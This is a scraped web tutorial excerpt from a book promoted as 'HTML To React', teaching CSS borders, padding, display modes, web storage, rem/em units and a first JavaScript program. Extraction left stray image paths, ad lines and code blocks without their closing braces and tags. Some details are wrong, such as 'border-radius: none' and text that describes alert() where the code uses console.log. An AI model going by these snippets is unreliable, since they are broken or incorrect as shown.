[FREE Lessons] HTML To React: The Ultimate Guide

Tags: Html, Reactjs, Javascript, Web, Listicles, Html To React
06 September 2021

This article contains important FREE lessons from my most popular book HTML To React: The Ultimate Guide. These free lessons itself will make you a smarter web developer.

(Shows 80 of 400+ pages from the book)

Learn Web Development - FREE Training

HTML and CSS free lessons

Module 2 - Styling your Webpage

Now let's add your first style

  • Let's add styles for your valentine's day card
  • We are using .card - class selector to grab the card DIV and style it
  • Here we are just setting a nice red border: 10px solid #E53038;
  • height: 100vh; is done to match out body tag's height - which is the full view-port height.
  • display: flex; makes this card DIV a flex-box.
    • We are just making all our flex-children align in vertically and horizontally center position in one column.
    • NOTE: We will learn about flex-box in the later section.

Learn some Effective Tools to Improve Developers Productivity

.card {
border: 10px solid #E53038;
height: 300px;
width: 300px;padding: 20px;
display: flex;
flex-direction: column;
justify-content: center;
align-items: center;

Fun with Border Radius


  • Borders also take another property called border-radius using which you can give different shapes to your elements
  • In the above illustration we have a square on the left and circle on the right
  • If you provide border-radius of 50% it will turn your square into a circle
.square {
border-radius: none;
.circle {
border-radius: 50%;


  • If one value is set, this radius applies to all 4 corners.
  • If two values are set, the first applies to top-left and bottom-right corner, the second applies to top-right and bottom-left corner.
  • If three values areset - the second value applies to top-right and also bottom-left.• If four values apply to the top-left, top-right, bottom-right, bottom-left corner (in that order).
<div class="card one">
<h1 class="">One</h1>
<div class="card two">
<h1 class="">Two</h1>
<div class="card three">
<h1 class="">Three</h1>
<div class="card four">
<h1 class="">Four</h1>

// all 4 corners
.one {
border-radius: 50%;
// 10% top-left and bottom-right, 20% top-right and bottom-left
.two {
border-radius: 10% 20%
// 10% top-left, 20% top-right and also bottom-left, 30% bottom-right
.three {
border-radius: 10% 20% 30%;
// top-left, top-right, bottom-right, bottom-left corner (in that order)
.four {
border-radius: 10% 20% 30% 40%;
.card {
border: 10px solid #E53038;
height: 100px;
width: 100px;
padding: 20px;
display: flex;
flex-direction: column;
justify-content: center;
align-items: center;
margin-bottom: 20px;Module 3 - Display and position your elements


  • Paddings are used to generate space around the given element's content - inside its border
<div class="myDiv">
<p>My Paragraph</p>
// styles
.myDiv {
padding: 20px;
  • padding: 20px; gives the div element padding of 20px
  • So, basically there will be 20px space between p and div on all the sidesPadding On Individual Sides• You can also give padding to the elements on any particular side if you'd want

Padding Shorthands

  • To give padding on all the sides
div {
padding: 20px;
  • The below example give padding 20px top and bottom
  • And give padding 40px left and right
div {
padding: 20px 40px;
  • The below example give padding 20px top
  • And give padding 40px left and right
  • Andgive padding 50px bottom
div {
padding: 20px 40px 50px;

Get NordVPN Deal



  • This property stretches the element left to right as far as it can
  • Default is block for div, p, form, header, footer, section (and some more)
  • Such elements cannot be placed on the same horizontal line with any other display modes
    • Except when they are floated• Like shown in the illustration -> every item stretches and uses up the entire row


  • Inline element sits in line
    • Without disrupting the flow of other elements
  • Like shown in the illustration -> every item takes up only the space it needs
    • Item wraps to the next row if there is no enough space
  • span, em, b are examples of inline elements
  • They take only width needed for it
  • They do not honor vertical padding
    • No width
    • No height
    • They just ignores them
  • Horizontal margin and padding are honored
  • Vertical margin and padding are ignored


  • This is just like inline element
  • BUT they will respect the width and height
  • Basically, they combine the properties of both block elements and inline elements
  • The element can appear on the same horizontal line as other elements
  • So, like the illustration shows if you set width you can fit all the items together in a single row


  • These elements will not appear on the page at all• But you can still interact with it through DOM
  • NO space allocated on the page

Visibility Hidden

  • Space is allocated for it on the page
  • Tag is rendered on the DOM
  • The element is just no visible
div {
visibility: hidden;


  • Flex property givesability to alter its item's width/height to best fill the available space
  • It is used to accommodate all kind of display devices and screen sizes
  • Fills available space
    • Or shrink to prevent overflow

7 HTML Tips and Tricks

In this article you will find some useful tips and tricks on html which save your time while developing web applications.Module 4 - Semantic HTML5

What is HTML5 Web Storage?

  • With HTML5, browsers can store data locally
  • It is more secure and faster than cookies
  • You are able to store large information -> more than cookies
  • They are name/value pairs
  • 2 objects
    • window.localStorage - stores data with no expiration date
    • window.sessionStorage - stores data for one session (data is lost when the tab is closed)


  • Stores the data with no expiration date
  • Data is NOT deleted when browser is closed
  • Available the next day, week, or year
    • It's not possible to specify expiration
    • You can manage its expiration in your app
// Store
localStorage.setItem("lastname", "Smith");
// Retrieve
document.getElementById("result").innerHTML = localStorage.getItem("lastname");


  • Stores the data for only one session
  • Data deleted when browser is closed
if (sessionStorage.clickcount) {
sessionStorage.clickcount = Number(sessionStorage.clickcount) + 1;
} else {
sessionStorage.clickcount = 1;
document.getElementById("result").innerHTML = "You have clicked the button " +
sessionStorage.clickcount + " time(s) in this session.";

Student Feedback

HTML To React review

Module 5 - Flexbox intro and media query

Let's talk about the sizes - px vs em vs rem

  • Pixels are ignorant, avoid using them
  • If you’re setting all of your font-sizes, element sizes and spacing in pixels, you’re not treating the end user with respect.
    • Users will have to zoom in and out with ctrl plus +/- depending on thedevice they are on
  • REMs are a way of setting font-sizes based on the font-size of the root HTML element
  • Allows you to quickly scale an entire project by changing the root font-size
  • em is relative to the font size of its direct or nearest parent
    • When you have nested styles it becomes difficult to track ems
    • This is what REMs solve - the size always refers back to the root
  • Both pixels and REMs for media queries fail in various browsers when using browser zoom, and EMs are the best option we have.

How to calculate PX from REM

EX: HTML font-size is set to 10px, paragraph font-size is set to 1.6rem

Then size in pixels is - 1.6rem * 10px = 16px

How To Build Responsive Web AppsResponsive Web Design means using HTML and CSS to automatically resize, hide, shrink, or enlarge, a website, to make it look good on all devices (desktops, tablets, laptops, and phones) as per size of the devices. Learn everything about building a responsive web application.

Module 6 - Quirks, tips, and tricks

Normalizing CSS

  • Small CSS file that provides cross-browser consistency
  • Provides default styles for HTML elements
  • Make sure that all HTML elements renders the same way in ALL browsers - same padding, margin, border, etc..
  • In some cases this approach applies IE or EDGE styles to the rest of the browsers

Get NordVPN Deal

Reset CSS

  • This approach says that we don’t need the browsers’ default styles at all
  • We’ll define in the project according to our needs• CSS Reset resets all of the styles that come with the browser’s user agent
  • Grab sample CSS reset here
  • The problem with CSS Resets is that they are ugly and hard to debug
  • Solution - use Normalize CSS with little bit of CSS Reset
  • Unlike an ordinary CSS reset, target specific HTML tags’ styles rather than making a big list of tags.
    • Make it less aggressive and a lot more readable

JavaScript Free Lessons

Module 1 - JavaScript Basics

Your first "hello world" program

  • Write the below HTML code in index.html file and open it in browser
<!DOCTYPE html>
<h1>My First Web Page</h1>
console.log("Hello World");• JavaScript code is written in between the script tag in the above code.
  • When the page loads the browser will run the code between the script tag.
  • alert() function will be called which will create a model with hello world text on it.

Congratulation! You just wrote your first JavaScript program

Data Types in JavaScript

  • Values used in your code can be of certain type - number or string for example
  • This type is called data type of the language
  • Data Types supported in JavaScript are: Number, String, Boolean, Function, Object, Null, and Undefined
  • They are categorized as primitive or non-primitive data types
  • Check the illustration below
  • Unlike Java or C#, JavaScript is a loosely-typed language
